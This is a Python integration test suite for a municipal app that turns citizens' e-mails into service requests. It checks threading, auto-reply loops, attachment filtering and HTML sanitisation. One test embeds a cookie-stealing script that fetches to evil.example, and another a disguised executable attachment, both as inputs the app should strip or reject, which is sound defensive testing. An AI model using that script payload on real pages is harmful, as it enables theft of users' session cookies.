"""Requests by e-mail through the whole app with real parts: the collectivity's mailbox on a dovecot started by the
test (``imap_server.py``), read by the app's own intake (``[requests] imap_url``), and an SMTP server (aiosmtpd)
receiving what the app's outbox sends."""

from __future__ import annotations

import email
import email.policy
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from email.message import EmailMessage
from email.utils import make_msgid

import httpx
import pytest
from starlette.applications import Starlette

from tests.conftest import Stack
from tests.outbox.support import SmtpSink, eventually
from tests.requests.imap_server import Dovecot, start_dovecot
from tests.requests.support import outbox, put_categories

pytestmark = [pytest.mark.anyio, pytest.mark.one_stack]
BASE = "/api/v1/tenants/demo"
CITIZEN = "anne.lefevre@example.fr"


@pytest.fixture
def dovecot() -> Iterator[Dovecot]:
    yield from start_dovecot()


@dataclass
class Running:
    app: Starlette
    http: httpx.AsyncClient
    mailbox: Dovecot
    sink: SmtpSink

    @property
    def handled(self) -> int:
        return int(self.app.state.intake.handled)

    async def requests(self, stack: Stack) -> list[dict[str, object]]:
        listed = await self.http.get(f"{BASE}/requests", headers=stack.auth("agent"))
        assert listed.status_code == 200, listed.text
        return list(listed.json()["items"])


@asynccontextmanager
async def running(stack: Stack, mailbox: Dovecot) -> AsyncIterator[Running]:
    from queue_server.settings import load_settings
    from queue_server.web.app import create_app

    await put_categories(stack.settings)
    sink = SmtpSink()
    mail_url = await sink.start()
    try:
        settings = load_settings(**{
            **stack.settings.model_dump(mode="python", by_alias=True),
            "email": {"url": mail_url, "from": "Mairie de Démoville <mairie@demoville.fr>"},
            "requests": {"imap_url": mailbox.url, "imap_poll_s": 5, "imap_tenant": "demo"}})
        app = create_app(settings)
        async with (app.router.lifespan_context(app),
                    httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://testserver") as http):
            yield Running(app, http, mailbox, sink)
    finally:
        await sink.close()


def citizen_mail(subject: str, text: str, *, html: str | None = None, **headers: str) -> tuple[bytes, str]:
    """An e-mail from the citizen to the town hall, and its Message-ID."""
    message = EmailMessage()
    message["From"] = f"Anne Lefèvre <{CITIZEN}>"
    message["To"] = "mairie@demoville.fr"
    message["Subject"] = subject
    message_id = make_msgid(domain="example.fr")
    message["Message-ID"] = message_id
    for name, value in headers.items():
        message[name.replace("_", "-")] = value
    message.set_content(text)
    if html is not None:
        message.add_alternative(html, subtype="html")
    return bytes(message), message_id


async def new_request(run: Running, stack: Stack) -> tuple[dict[str, object], str]:
    """A citizen's first e-mail, put in the mailbox and waited for until it is a request; the request and the
    e-mail's Message-ID."""
    raw, message_id = citizen_mail("Nid-de-poule rue des Lilas", "Un trou dangereux devant le numéro 12.")
    await run.mailbox.deliver(raw)
    found: list[dict[str, object]] = []

    async def filed() -> bool:
        found[:] = await run.requests(stack)
        return bool(found)

    await eventually(filed, timeout_s=30)
    return found[0], message_id


async def test_a_new_email_becomes_a_request_acknowledged_by_email(stack: Stack, dovecot: Dovecot) -> None:
    """A citizen's e-mail becomes a request (channel e-mail, category "autre", its text as the first message) whose
    acknowledgement answers that e-mail: reference in the subject, In-Reply-To, Auto-Submitted; it is marked seen."""
    async with running(stack, dovecot) as run:
        request, message_id = await new_request(run, stack)
        await eventually(lambda: len(run.sink.received) == 1, timeout_s=30)
        await eventually(lambda: run.handled == 1)
        assert await dovecot.unseen() == 0
    assert request["channel"] == "email" and request["category"] == "autre"
    assert request["subject"] == "Nid-de-poule rue des Lilas"
    assert [(m["from"], m["body"]) for m in request["messages"]] == [  # type: ignore[attr-defined]
        ("citizen", "Un trou dangereux devant le numéro 12.")]
    [ack] = run.sink.received
    assert ack["To"] == CITIZEN
    assert f"[{request['reference']}]" in ack["Subject"]
    assert ack["In-Reply-To"] == message_id and message_id in ack["References"]
    assert ack["Auto-Submitted"] == "auto-replied"


async def test_an_agents_reply_is_threaded_and_the_citizens_answer_lands_on_the_request(
        stack: Stack, dovecot: Dovecot) -> None:
    """An agent's reply reaches the citizen with the reference in its subject and threading headers naming the
    citizen's e-mail and the acknowledgement; the citizen's answer to it, put in the mailbox, is a message on the
    same request, not a new request."""
    async with running(stack, dovecot) as run:
        request, first_id = await new_request(run, stack)
        await eventually(lambda: len(run.sink.received) == 1, timeout_s=30)
        replied = await run.http.post(f"{BASE}/requests/{request['id']}/messages",
                                      json={"body": "Une équipe passera jeudi."}, headers=stack.auth("agent"))
        assert replied.status_code == 201, replied.text
        await eventually(lambda: len(run.sink.received) == 2, timeout_s=30)
        ack, reply = run.sink.received
        answer, _ = citizen_mail(f"Re: {reply['Subject']}", "Merci, je serai là jeudi.",
                                 In_Reply_To=reply["Message-ID"],
                                 References=f"{first_id} {ack['Message-ID']} {reply['Message-ID']}")
        await run.mailbox.deliver(answer)
        await eventually(lambda: run.handled == 2, timeout_s=30)
        requests = await run.requests(stack)
    assert f"[{request['reference']}]" in reply["Subject"] and "Une équipe passera jeudi." in reply.get_content()
    assert reply["In-Reply-To"] == ack["Message-ID"]
    assert reply["References"].split() == [first_id, ack["Message-ID"]]
    assert reply["Auto-Submitted"] is None
    [same] = requests
    assert same["id"] == request["id"]
    assert [(m["from"], m["body"]) for m in same["messages"]] == [  # type: ignore[attr-defined]
        ("citizen", "Un trou dangereux devant le numéro 12."), ("staff", "Une équipe passera jeudi."),
        ("citizen", "Merci, je serai là jeudi.")]


async def test_an_out_of_office_reply_starts_no_loop(stack: Stack, dovecot: Dovecot) -> None:
    """Out-of-office replies to our acknowledgement (RFC 3834's header, or only Outlook's subject and
    X-Autoreply) become no request and are not answered: nothing more is written to send."""
    async with running(stack, dovecot) as run:
        request, _ = await new_request(run, stack)
        await eventually(lambda: len(run.sink.received) == 1, timeout_s=30)
        ack = run.sink.received[0]
        for raw, _id in (
                citizen_mail(f"Réponse automatique : {ack['Subject']}", "Je suis absente jusqu'au 12.",
                             Auto_Submitted="auto-replied", In_Reply_To=ack["Message-ID"]),
                citizen_mail("Absent du bureau", "Je suis absente jusqu'au 12.", X_Autoreply="yes")):
            await run.mailbox.deliver(raw)
        await eventually(lambda: run.handled == 3, timeout_s=30)
        requests = await run.requests(stack)
    assert [r["id"] for r in requests] == [request["id"]]
    assert len(requests[0]["messages"]) == 1  # type: ignore[arg-type]
    assert len(await outbox(stack.settings)) == 1  # the acknowledgement only
    assert len(run.sink.received) == 1


async def test_an_html_email_is_stored_sanitised(stack: Stack, dovecot: Dovecot) -> None:
    """An e-mail in HTML only is stored without its script or event handlers, its words kept."""
    message = EmailMessage()
    message["From"] = f"Anne Lefèvre <{CITIZEN}>"
    message["To"] = "mairie@demoville.fr"
    message["Subject"] = "Éclairage public"
    message["Message-ID"] = make_msgid(domain="example.fr")
    message.set_content('<p onclick="steal()">Le lampadaire <b>ne s\'allume plus</b>.</p>'
                        '<script>fetch("https://evil.example/?c="+document.cookie)</script>', subtype="html")
    async with running(stack, dovecot) as run:
        await dovecot.deliver(bytes(message))
        await eventually(lambda: run.handled == 1, timeout_s=30)
        [request] = await run.requests(stack)
    body = request["messages"][0]["body"]  # type: ignore[index]
    assert "ne s'allume plus" in body and "<b>" in body
    assert "script" not in body and "evil.example" not in body and "onclick" not in body


async def test_an_emails_files_are_kept_by_content_and_the_others_noted(stack: Stack, dovecot: Dovecot) -> None:
    """A PDF attached to an e-mail is kept under the data directory; a program named ``.pdf`` is not, and the
    request says which file was left out and why."""
    pdf = b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
    raw, _ = citizen_mail("Permis de construire", "Voici mon dossier.")
    message = email.message_from_bytes(raw, policy=email.policy.default)
    assert isinstance(message, EmailMessage)
    message.add_attachment(pdf, maintype="application", subtype="pdf", filename="plan.pdf")
    message.add_attachment(b"MZ\x90\x00\x03" + bytes(200), maintype="application", subtype="pdf",
                           filename="facture.pdf")
    async with running(stack, dovecot) as run:
        await dovecot.deliver(bytes(message))
        await eventually(lambda: run.handled == 1, timeout_s=30)
        [request] = await run.requests(stack)
    assert [(a["filename"], a["content_type"], a["size"]) for a in request["attachments"]] == [  # type: ignore[attr-defined]
        ("plan.pdf", "application/pdf", len(pdf))]
    assert "facture.pdf : type non accepté" in request["messages"][0]["body"]  # type: ignore[index]
    kept = list((stack.settings.server.data_dir / "requests" / "demo" / str(request["id"])).iterdir())
    assert [path.read_bytes() for path in kept] == [pdf]


async def test_an_email_read_again_after_a_crash_is_written_once(stack: Stack, dovecot: Dovecot) -> None:
    """The same e-mail found unseen a second time (a crash after it was written, before it was marked seen) makes
    no second request and no second acknowledgement."""
    raw, _ = citizen_mail("Encombrants", "Quand passe la collecte des encombrants ?")
    async with running(stack, dovecot) as run:
        await dovecot.deliver(raw)
        await eventually(lambda: run.handled == 1, timeout_s=30)
        await dovecot.deliver(raw)
        await eventually(lambda: run.handled == 2, timeout_s=30)
        requests = await run.requests(stack)
    assert len(requests) == 1
    assert len(await outbox(stack.settings)) == 1


async def test_a_stranger_quoting_a_reference_files_a_new_request(stack: Stack, dovecot: Dovecot) -> None:
    """References follow one another: an e-mail quoting one from another address than the request's is a new
    request, never a message on someone else's."""
    async with running(stack, dovecot) as run:
        request, _ = await new_request(run, stack)
        raw, _ = citizen_mail(f"Re: [{request['reference']}] Votre demande", "Je veux lire ce dossier.")
        stranger = email.message_from_bytes(raw, policy=email.policy.default)
        stranger.replace_header("From", "Curieux <curieux@example.org>")
        await dovecot.deliver(bytes(stranger))
        await eventually(lambda: run.handled == 2, timeout_s=30)
        requests = await run.requests(stack)
    assert len(requests) == 2
    mine = next(r for r in requests if r["id"] == request["id"])
    assert len(mine["messages"]) == 1  # type: ignore[arg-type]
